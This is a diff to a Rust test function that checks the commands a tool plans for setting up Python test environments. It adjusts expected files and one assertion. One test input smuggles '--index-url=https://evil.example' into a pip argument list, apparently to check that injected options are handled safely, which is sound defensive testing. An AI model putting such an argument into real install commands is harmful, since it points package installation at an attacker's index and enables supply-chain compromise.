@@ -102,7 +102,7 @@ fn python_projects() {
             venv,
             &format!("{PIP} -- 'requests>=2' '--index-url=https://evil.example' mock hypothesis pytest"),
         ],
-        &[],
+        &["pyproject.toml"],
     );
     check(&[PYTEST], &[venv, &format!("{PIP} -- pytest")], &[]);
     let unittest = (
@@ -116,7 +116,10 @@ fn python_projects() {
         &["pyproject.toml", "uv.lock"],
     );
     let (commands, sees) = planned(&[PYTEST, ("setup.py", "from setuptools import setup\nsetup()\n")], &[]);
-    assert!(commands[1].ends_with("-- pytest .") && sees.is_none(), "{commands:?}");
+    assert!(
+        commands[2].contains(".[test,tests,testing]") && sees.is_none(),
+        "{commands:?}"
+    );
     let (commands, _) = planned(&[PYTEST, ("uv.lock", "")], &["uv"]);
     assert_eq!(commands[0], venv);
 }
